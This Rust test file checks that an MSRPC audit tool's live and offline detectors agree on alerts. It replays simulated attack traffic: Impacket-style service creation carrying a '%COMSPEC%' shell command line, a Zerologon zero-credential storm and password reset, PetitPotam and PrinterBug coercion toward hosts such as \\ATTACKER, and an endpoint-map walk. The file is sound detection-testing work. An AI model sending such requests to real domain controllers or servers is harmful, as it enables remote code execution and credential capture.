//! Live and offline raise the same technique alerts for the same traffic. Each scenario runs a
//! real client and server state machine pair in memory (`Loopback`): the server's events go
//! through the daemon's path (`msrpc_audit::live::Live`, the stubs the runtime keeps), and the
//! bytes on the wire, laid into a pcap, through the analyzer (`msrpc analyze`'s path); both feed
//! the same detectors, and must agree on every alert (rule, severity, technique).
//!
//! Scenarios: Impacket-style remote service execution (create with a shell command line,
//! start, delete), Zerologon (challenge and authentication storm with zero credentials, then
//! the empty password), a PetitPotam call, spooler notifications (one back to the caller, one
//! toward another host) and a walk of the endpoint map; little- and big-endian.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]

#[path = "../../crates/msrpc-audit/tests/common/stubs.rs"]
mod stubs;

use std::collections::BTreeSet;

use msrpc_audit::detect::{DetectorConfig, Detectors};
use msrpc_audit::live::{Input, Live};
use msrpc_audit::{Event, EventKind};
use msrpc_epm::{EptLookupRequest, EptLookupResponse, RPC_C_EP_ALL_ELTS};
use msrpc_ndr::{ContextHandle, DataRep, DecodeLimits, Unique, Uuid};
use msrpc_proto::client::ClientConfig;
use msrpc_proto::dispatch::{BoxFuture, CallContext, Dispatch, DispatchError, Invoke};
use msrpc_proto::pdu::SyntaxId;
use msrpc_proto::server::{ServerConfig, ServerEvent};
use msrpc_tests::{pcap, Loopback, Registry};

/// A service that answers every call with the same stub.
struct Raw {
    syntax: SyntaxId,
    answer: Vec<u8>,
}

impl Dispatch for Raw {
    fn syntax(&self) -> SyntaxId {
        self.syntax
    }
    fn name(&self) -> &'static str {
        "raw"
    }
    fn operation_name(&self, _opnum: u16) -> Option<&'static str> {
        None
    }
    fn dispatch<'a>(
        &'a self,
        _ctx: CallContext,
        _stub: Vec<u8>,
        _drep: DataRep,
        _limits: DecodeLimits,
    ) -> BoxFuture<'a, Result<Vec<u8>, DispatchError>> {
        let a = self.answer.clone();
        Box::pin(async move { Ok(a) })
    }
}

fn syntax(uuid: &str, major: u16) -> SyntaxId {
    SyntaxId::new(uuid.parse::<Uuid>().unwrap(), major, 0)
}

type Alerts = BTreeSet<(String, String, String)>;

fn alerts(events: &[Event]) -> Alerts {
    events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::Alert {
                detector,
                severity,
                technique,
                ..
            } => Some((detector.clone(), severity.clone(), technique.clone())),
            _ => None,
        })
        .collect()
}

/// Runs `calls` (opnum, request stub) on one connection to a `Raw` service answering
/// `answer`; returns the alerts of the live path and of the offline path.
async fn scenario(
    iface: SyntaxId,
    drep: DataRep,
    answer: Vec<u8>,
    calls: Vec<(u16, Vec<u8>)>,
    port: u16,
) -> (Alerts, Alerts) {
    let lb = Loopback::new(
        ClientConfig {
            drep,
            ..ClientConfig::default()
        },
        ServerConfig::default(),
        Registry::default().with(Raw {
            syntax: iface,
            answer: answer.clone(),
        }),
    );
    for (opnum, stub) in calls {
        lb.invoke(iface, opnum, None, stub, drep).await.unwrap();
    }
    let t0 = 1_700_000_000.0;

    // Live: what msrpcd's observer hands the audit writer.
    let mut live = Live::new(9);
    let mut det = Detectors::new(DetectorConfig::default());
    let mut live_events = Vec::new();
    let mut feed = |ts: f64, input: Input, out: &mut Vec<Event>| {
        for e in live.feed(ts, input) {
            out.extend(det.observe(&e));
            out.push(e);
        }
    };
    feed(
        t0,
        Input::Opened {
            conn_id: 1,
            peer: Some(format!("127.0.0.1:{port}").parse().unwrap()),
            local: Some("127.0.0.1:135".parse().unwrap()),
        },
        &mut live_events,
    );
    for (i, ev) in lb.server_events().iter().enumerate() {
        let ts = t0 + 1.0 + i as f64;
        let input = match ev {
            ServerEvent::Call(c) => Input::call_done(
                1,
                c.call_id,
                c.interface,
                c.opnum,
                c.drep,
                c.transfer_syntax,
                &c.stub,
                c.stub.len(),
                Ok(&answer),
                std::time::Duration::from_millis(1),
            ),
            other => Input::server(1, other),
        };
        feed(ts, input, &mut live_events);
    }
    feed(
        t0 + 1000.0,
        Input::Closed {
            conn_id: 1,
            reason: "peer_closed".into(),
        },
        &mut live_events,
    );

    // Offline: the same bytes as a capture, through the analyzer.
    let capture = pcap::tcp_session(port, 135, &lb.wire());
    let mut a = msrpc_analyze::Analyzer::with_detectors(
        msrpc_analyze::Config::default(),
        Detectors::new(DetectorConfig::default()),
    );
    let mut offline_events = Vec::new();
    msrpc_analyze::run(
        std::io::Cursor::new(capture),
        &mut a,
        |e| offline_events.extend(e),
        |_| {},
    )
    .unwrap();
    (alerts(&live_events), alerts(&offline_events))
}

fn rules(a: &Alerts) -> Vec<&str> {
    a.iter().map(|(d, _, _)| d.as_str()).collect()
}

#[tokio::test]
async fn live_and_offline_raise_the_same_technique_alerts() {
    for (n, drep) in [DataRep::LITTLE_ENDIAN, DataRep::BIG_ENDIAN]
        .into_iter()
        .enumerate()
    {
        let port = 50_000 + 10 * n as u16;
        // Remote service execution, as smbexec/Empire do it, in the clear.
        let scm = syntax("367abb81-9844-35f1-ad32-98f038001003", 2);
        let (live, offline) = scenario(
            scm,
            drep,
            vec![0; 24],
            vec![
                (
                    12,
                    stubs::scm_create_w(drep, "BTOBTO", "%COMSPEC% /Q /c echo whoami > x.bat"),
                ),
                (19, stubs::scm_start(drep)),
                (2, stubs::handle_only(drep)),
            ],
            port,
        )
        .await;
        assert_eq!(live, offline, "svcctl {drep:?}");
        assert_eq!(
            rules(&live),
            [
                "scm_ephemeral_service",
                "scm_service_create_start",
                "scm_shell_service"
            ]
        );

        // Zerologon.
        let nrpc = syntax("12345678-1234-abcd-ef00-01234567cffb", 1);
        let mut calls = Vec::new();
        for _ in 0..12 {
            calls.push((4, stubs::nrpc_req_challenge(drep, "DC01", [0; 8])));
            calls.push((26, stubs::nrpc_authenticate3(drep, "DC01", [0; 8])));
        }
        calls.push((30, stubs::nrpc_password_set2(drep, "DC01", &[0; 516])));
        let (live, offline) = scenario(nrpc, drep, vec![0; 16], calls, port + 1).await;
        assert_eq!(live, offline, "netlogon {drep:?}");
        assert_eq!(
            rules(&live),
            [
                "zerologon_password_reset",
                "zerologon_storm",
                "zerologon_zero_credential"
            ]
        );

        // PetitPotam over \pipe\efsrpc's interface.
        let efsr = syntax("df1941c5-fe89-4e79-bf10-463657acf44d", 1);
        let (live, offline) = scenario(
            efsr,
            drep,
            vec![0; 4],
            vec![(0, stubs::efsr_file(drep, "\\\\10.0.0.66\\share\\x.txt"))],
            port + 2,
        )
        .await;
        assert_eq!(live, offline, "efsr {drep:?}");
        assert_eq!(rules(&live), ["petitpotam_efsr_efsrpc_pipe"]);

        // The spooler: a client registering for itself (its name from OpenPrinterEx), quiet;
        // then a registration toward another host, PrinterBug.
        let rprn = syntax("12345678-1234-abcd-ef00-0123456789ab", 1);
        let (live, offline) = scenario(
            rprn,
            drep,
            vec![0; 24],
            vec![
                (
                    69,
                    stubs::rprn_open_ex(drep, "\\\\DC01\\HP LaserJet", "\\\\WS01", "alice"),
                ),
                (65, stubs::rprn_notify(drep, "\\\\WS01")),
            ],
            port + 3,
        )
        .await;
        assert_eq!(live, offline, "spooler {drep:?}");
        assert!(live.is_empty(), "{live:?}");
        let (live, offline) = scenario(
            rprn,
            drep,
            vec![0; 24],
            vec![(65, stubs::rprn_notify(drep, "\\\\ATTACKER"))],
            port + 4,
        )
        .await;
        assert_eq!(live, offline, "printerbug {drep:?}");
        assert_eq!(rules(&live), ["printerbug_rprn"]);

        // A walk of the endpoint map: one lookup that reaches the end.
        let epm = syntax("e1af8308-5d1f-11c9-91a4-08002b14a0fa", 3);
        let req = EptLookupRequest {
            inquiry_type: RPC_C_EP_ALL_ELTS,
            object: Unique::default(),
            interface_id: Unique::default(),
            vers_option: 1,
            entry_handle: ContextHandle::default(),
            max_ents: 500,
        };
        let resp = EptLookupResponse {
            entry_handle: ContextHandle::default(),
            num_ents: 0,
            entries: Vec::new(),
            status: 0x16c9_a0d6,
        };
        let (live, offline) = scenario(
            epm,
            drep,
            resp.to_stub(&req, drep).unwrap(),
            vec![(2, req.to_stub(drep).unwrap())],
            port + 5,
        )
        .await;
        assert_eq!(live, offline, "epm {drep:?}");
        assert_eq!(rules(&live), ["epm_full_walk"]);
    }
}
